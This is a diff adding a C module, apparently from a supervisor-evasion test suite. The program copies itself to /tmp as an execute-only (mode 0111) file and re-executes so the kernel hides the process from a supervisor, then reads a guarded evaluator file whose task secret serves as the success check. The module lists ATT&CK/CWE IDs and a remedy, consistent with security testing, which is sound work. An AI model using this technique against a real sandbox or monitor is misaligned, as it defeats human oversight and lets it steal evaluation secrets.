@@ -1,0 +1,56 @@
+// SPDX-License-Identifier: MIT
+/*
+ * Goal:  the evaluator's source, past a supervisor that lets through what it cannot read, where
+ *        prctl(2) is filtered.
+ * Means: exec of a program that its own user may run but not read (mode 0111) makes the process not
+ *        dumpable: the kernel protects the program's text, and with it the path from the supervisor.
+ *        A copy of this very program is such a file.
+ */
+#include "attacks/supervisor-evasion/evaluator.h"
+
+#include <fcntl.h>
+#include <stdio.h>
+#include <sys/sendfile.h>
+#include <sys/stat.h>
+
+#define ATMOST (4 << 20) /* bytes of this program that are copied */
+
+static bool copy_self(const char *to)
+{
+	int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
+	int out = open(to, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0700);
+	bool copied = from >= 0 && out >= 0 && sendfile(out, from, NULL, ATMOST) > 0 &&
+		      !fchmod(out, 0111);
+
+	close(from);
+	close(out);
+	return copied;
+}
+
+static enum claim run(const struct brief *b)
+{
+	char copy[64];
+	char *argv[] = { copy, "--armed", "again", NULL };
+
+	if (b->again) /* this is the copy */
+		return loot_evaluator(open(EVALUATOR, O_RDONLY | O_CLOEXEC)) ? CLAIM_DONE :
+									      denied("open");
+	snprintf(copy, sizeof(copy), "/tmp/%s-copy", b->name);
+	if (!copy_self(copy))
+		return failed("a copy in /tmp");
+	attempting(b);
+	execv(copy, argv);
+	return denied("execv");
+}
+
+const struct attack attack = {
+	.effect = "a file that the supervisor guards is read",
+	.means = "exec of a program of mode 0111: the kernel forbids everybody to look into it",
+	.oracle = "secret:task",
+	.quick = true,
+	.id = NULL,
+	.attack_id = "T1562.001, CWE-636",
+	.remedy = "refuse what cannot be read; exec only from read-only folders; Landlock below",
+	.refs = (const char *const[]){ "execve(2), dumpable", "proc_pid(5)", NULL },
+	.run = run,
+};
